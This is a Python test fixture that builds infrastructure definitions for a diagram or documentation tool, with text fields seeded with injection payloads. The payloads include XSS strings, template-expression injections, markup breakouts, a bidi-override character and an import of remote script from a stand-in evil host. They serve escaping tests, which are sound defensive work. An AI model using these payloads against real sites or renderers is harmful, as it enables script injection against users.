"""Two designs that take little time to draw: a usual one, and one whose author means ill."""

from __future__ import annotations

import json

SMALL = """\
version: 1
title: A shop
region: eu-central-1
vpcs:
  shop:
    cidr_block: 10.0.0.0/16
    security_groups:
      web: {ingress: [tcp 443 from 0.0.0.0/0]}
    subnets:
      private:
        cidr_block: 10.0.0.0/24
        instances: {web: {security_groups: [web]}, db: {}}
flows:
  stores: {title: An order is stored, from: web, to: db, port: 443}
  asks: {title: The database asks, from: db, to: web, port: 443}
"""

ATTACKS = (
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1)) ![y](javascript:alert(1)) <javascript:alert(1)>",
    "[[File:Evil.png]] [[Special:Export|x]] {{Evil}} {{{1}}} {{constructor.constructor('alert(1)')()}}",
    "]]> --> </details></table></svg><svg onload=alert(1)>",
    "</nowiki></html><html><script>alert(1)</script> <nowiki> %%x%% <php>phpinfo()</php>",
    "| a | b | ^ c || d |- !! e",
    "``` ~~~ `x` $$\\alert$$ \\(x\\) __a__ **b** ~~c~~ ==d== ^^e^^ //f// ''g'' :smile: (c) 1/2 #1 @all !1",
    "export const x = alert(1)",
    "import x from 'https://evil.example/x.js'",
    "---",
    "= A heading =",
    "{alert(1)} ${alert(1)} <Evil prop={alert(1)}/> {% evil %} {# evil #} ~~NOTOC~~ __NOTOC__ ~~~~",
    "https://evil.example/x.png www.evil.example evil@evil.example RFC 1 ISBN 0-00-000000-0",
    ":::note evil !!! evil > [!NOTE] evil",
)
"""What stands in text fields, each with what some markup or engine would make of it."""


def hostile(attacks: tuple[str, ...] = ATTACKS) -> str:
    """A definition with an attack in every text field; as many flows as attacks."""

    def text(at: int) -> str:
        return json.dumps(attacks[at % len(attacks)])

    flows = "\n".join(
        f"  flow-{at}: {{title: {text(at)}, description: {text(at + 1)}, from: web, to: db,"
        f" port: {(400 if at % 2 else 500) + at},"
        f" expect: {'allowed' if at % 2 else '{blocked: ENI_SG_RULES_MISMATCH}'}}}"
        for at in range(len(attacks))
    )
    return f"""\
version: 1
title: {text(0)}
summary: {text(1)}
region: eu-central-1
vpcs:
  shop:
    title: {text(2)}
    description: {text(3)}
    cidr_block: 10.0.0.0/16
    suppress: {{DGL-62: {text(4)}}}
    security_groups:
      web: {{title: {text(5)}, ingress: [tcp 443 from 0.0.0.0/0]}}
      db: {{title: {text(6)}, description: {text(7)}, ingress: [tcp 401-499 from web]}}
    subnets:
      private:
        title: {text(8)}
        cidr_block: 10.0.0.0/24
        instances:
          web: {{title: {text(0)}, description: {text(9)}, security_groups: [web]}}
          db: {{title: {text(1)}, security_groups: [db]}}
flows:
{flows}
invariants:
  closed: {{title: {text(10)}, description: {text(11)}, never: {{from: internet, to: db}}}}
# \u202eevil\u2066 ``` </code></pre></textarea>]]></ac:plain-text-body> {text(0)} {text(4)}
"""
